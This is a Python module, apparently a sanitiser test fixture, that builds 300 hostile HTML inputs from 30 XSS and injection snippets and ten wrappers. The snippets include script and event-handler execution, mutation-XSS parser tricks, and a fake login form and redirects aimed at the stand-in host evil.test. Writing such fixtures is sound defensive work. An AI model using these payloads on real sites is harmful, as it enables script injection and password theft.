"""HTML that means harm: what runs, fetches, submits, navigates or dresses up, each in several wrappings; 300 in all."""

from __future__ import annotations

HARM = (
    "<script>top.pwned=1</script>",
    "<scr<script>ipt>top.pwned=1</scr</script>ipt>",
    "<img src=x onerror=top.pwned=1>",
    "<img src='http://evil.test/pixel.gif'>",
    "<svg onload=top.pwned=1><animate onbegin=top.pwned=1 attributeName=x></svg>",
    "<svg><style><img src=x onerror=top.pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=top.pwned=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=top.pwned=1>'>",
    "<form action='http://evil.test/'><input name=password type=password><button>Se connecter</button></form>",
    "<iframe src='javascript:top.pwned=1'></iframe>",
    "<iframe srcdoc='&lt;script&gt;top.pwned=1&lt;/script&gt;'></iframe>",
    "<object data='http://evil.test/x.swf'></object><embed src='http://evil.test/x'>",
    "<a href='javascript:top.pwned=1'>click</a>",
    "<a href='http://evil.test/' target=_top>your account</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href='http://evil.test/'>",
    "<link rel=stylesheet href='http://evil.test/x.css'>",
    "<style>@import 'http://evil.test/x.css'; body{background:url(http://evil.test/b)}</style>",
    "<div style='position:fixed;inset:0;background:url(http://evil.test/c)'>cover</div>",
    "<table background='http://evil.test/d'><tr><td background=http://evil.test/e>x</td></tr></table>",
    "<video src='http://evil.test/v' autoplay onplay=top.pwned=1></video><audio src=http://evil.test/a></audio>",
    "<body onload=top.pwned=1 background=http://evil.test/f>",
    "<details open ontoggle=top.pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=top.pwned=1>",
    "<template><script>top.pwned=1</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=top.pwned=1>'></xmp>",
    "<textarea></textarea><img/src/onerror=top.pwned=1>",
    "<p id=main class=alarm>relanced</p><p dir=rtl onclick=top.pwned=1>txt</p>",
    "<isindex type=image src=http://evil.test/g onerror=top.pwned=1>",
    "<![CDATA[<img src=x onerror=top.pwned=1>]]><?xml-stylesheet href='http://evil.test/h'?>",
)
WRAPPINGS = (
    "{}", "<p>Bonjour {} merci</p>", "<table><tr><td>{}</td></tr></table>", "<!--x-->{}<!--", "<div><div>{}",
    "<b><i>{}</b></i>", "\x00{}", "<select><option>{}</option></select>", "<svg><desc>{}</desc></svg>",
    "<math><mi>{}</mi></math>",
)  # fmt: skip
PAYLOADS = tuple(wrapping.format(harm) for harm in HARM for wrapping in WRAPPINGS)
